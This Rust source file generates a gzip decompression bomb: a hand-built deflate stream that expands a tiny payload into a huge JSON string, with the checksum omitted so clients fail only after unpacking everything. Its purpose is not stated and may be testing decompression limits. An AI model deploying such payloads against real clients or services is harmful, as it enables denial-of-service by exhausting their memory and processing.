//! A gzip stream that is small on the wire and large when unpacked.

/// What a gzip stream begins with: deflate, no name, no time.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// How many bytes the longest back reference stands for (RFC 1951, 3.2.5).
const LONGEST: usize = 258;

/// A JSON string of about `length` times `x`, packed to a thousandth or so. The checksum at the end is missing: a client
/// that comes so far has unpacked the whole, and will say that something is missing.
pub(crate) fn bomb(length: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: HEAD.to_vec(), pending: 0, count: 0 };
    // The last block, with the fixed codes of RFC 1951, 3.2.6.
    bits.push(0b011, 3);
    bits.literal(b'"');
    bits.literal(b'x');
    for _ in 0..length / LONGEST {
        bits.code(0b1100_0101, 8); // length 258,
        bits.code(0, 5); // one byte back
    }
    bits.literal(b'"');
    bits.code(0, 7); // the end of the block
    bits.finish()
}

/// Bits into bytes, the lowest first.
struct Bits {
    bytes: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, bits: u32, count: u32) {
        self.pending |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push(self.pending.to_le_bytes()[0]);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    /// A Huffman code, whose highest bit goes first.
    fn code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }

    /// A byte below 144 as it is.
    fn literal(&mut self, byte: u8) {
        self.code(0b0011_0000 + u32::from(byte), 8);
    }

    fn finish(mut self) -> Vec<u8> {
        self.push(0, 7);
        self.bytes
    }
}
